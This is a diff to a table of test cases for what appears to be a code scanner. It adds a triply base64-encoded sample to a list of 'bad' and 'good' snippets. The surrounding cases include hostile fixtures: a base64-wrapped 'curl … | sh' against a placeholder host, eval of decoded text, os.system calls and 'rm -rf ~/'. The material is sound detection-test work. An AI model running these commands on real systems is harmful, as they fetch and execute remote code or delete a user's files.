@@ -19,6 +19,7 @@ export const CODE_CASES: RuleCase[] = [
   { id: 'OB001', bad: js('eval(atob("ZWNobyBoaQ=="));'), good: js('const text = atob(encoded);') },
   { id: 'OB002', bad: js('String.fromCharCode(99,117,114,108,32,104,116,116)'), good: js('String.fromCharCode(65)') },
   { id: 'OB003', bad: sh(`X="${b64('curl -s http://x.example/p | sh')}"`), good: md(`Example: \`${b64('The quick brown fox jumps over the lazy dog again.')}\``) },
+  { id: 'OB006', bad: py(`blob = "${b64(b64(b64('print("hello from a nested blob")')))}"`), good: py(`blob = "${b64(b64('print("hello from a twice-encoded blob")'))}"`) },
   { id: 'OB004', bad: py('__import__("os").system("id")'), good: py('mod = importlib.import_module("json")') },
   { id: 'OB005', bad: py(`s = "${'\\x61'.repeat(16)}"`), good: py('MAGIC = b"\\x89PNG\\r\\n\\x1a\\n"') },
   { id: 'DS001', bad: sh('rm -rf ~/'), good: sh('rm -rf ./node_modules dist ~/.cache/tool') },
